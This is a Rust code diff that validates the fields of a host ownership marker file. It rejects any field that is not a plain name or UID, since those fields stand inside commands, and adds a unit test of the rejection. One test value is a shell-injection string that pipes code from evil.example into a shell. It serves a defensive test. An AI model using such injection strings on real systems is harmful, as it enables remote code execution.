@@ -3,6 +3,7 @@
 use serde::{Deserialize, Serialize};
 
 use super::job::{Job, JobKind};
+use crate::core::words;
 
 /// The ownership marker of a host: `/var/lib/tatara/owner.json`, mode 0600. Every script of a Machine
 /// compares it before its first write, so that a lost, restored or duplicated management cluster
@@ -30,6 +31,21 @@ impl Marker {
     /// The job of this kind for the Machine.
     pub fn job(&self, kind: JobKind) -> Job {
         Job::new(kind, &self.uid)
+    }
+
+    /// The first field that is no name or UID, as the API server has them. A host may say anything, and these stand in commands.
+    fn odd_field(&self) -> Option<&'static str> {
+        let fields = [
+            ("management", &self.management),
+            ("namespace", &self.namespace),
+            ("cluster", &self.cluster),
+            ("machine", &self.machine),
+            ("uid", &self.uid),
+        ];
+        let odd = fields
+            .into_iter()
+            .find(|(_, value)| !words::is_plain(value));
+        odd.map(|(field, _)| field)
     }
 
     pub(super) fn json(&self) -> String {
@@ -73,8 +89,11 @@ impl Ownership {
     pub(super) fn read(text: Option<String>) -> Self {
         match text {
             None => Self::Nobody,
-            Some(text) => match serde_json::from_str(&text) {
-                Ok(owner) => Self::Owner(owner),
+            Some(text) => match serde_json::from_str::<Owner>(&text) {
+                Ok(owner) => match owner.marker.odd_field() {
+                    None => Self::Owner(owner),
+                    Some(field) => Self::Unreadable(format!("its field {field} is no name or UID")),
+                },
                 Err(_) => Self::Unreadable(text),
             },
         }
@@ -85,6 +104,39 @@ impl Ownership {
         match self {
             Self::Owner(owner) if owner.marker.is_same_machine(marker) => Some(owner),
             _ => None,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_marker_whose_fields_are_no_names_is_unreadable() {
+        let own = Marker {
+            management: "0d7a2f0e-11c1-4f5b-9d1c-3f0c7f6a1b2c".into(),
+            namespace: "default".into(),
+            cluster: "c1".into(),
+            machine: "c1-cp.example".into(),
+            uid: "5e2b7a64-11c1-4f5b-9d1c-3f0c7f6a1b2c".into(),
+        };
+        let read = |marker: &Marker| Ownership::read(Some(marker.json()));
+        assert!(read(&own).of(&own).is_some());
+        let table: [(&str, fn(&mut Marker) -> &mut String); 5] = [
+            ("management", |marker| &mut marker.management),
+            ("namespace", |marker| &mut marker.namespace),
+            ("cluster", |marker| &mut marker.cluster),
+            ("machine", |marker| &mut marker.machine),
+            ("uid", |marker| &mut marker.uid),
+        ];
+        for (name, field) in table {
+            for value in ["x'; curl evil.example|sh; '", "", "--all", "a b"] {
+                let mut marker = own.clone();
+                *field(&mut marker) = value.into();
+                let why = format!("its field {name} is no name or UID");
+                assert_eq!(read(&marker), Ownership::Unreadable(why), "{value}");
+            }
         }
     }
 }
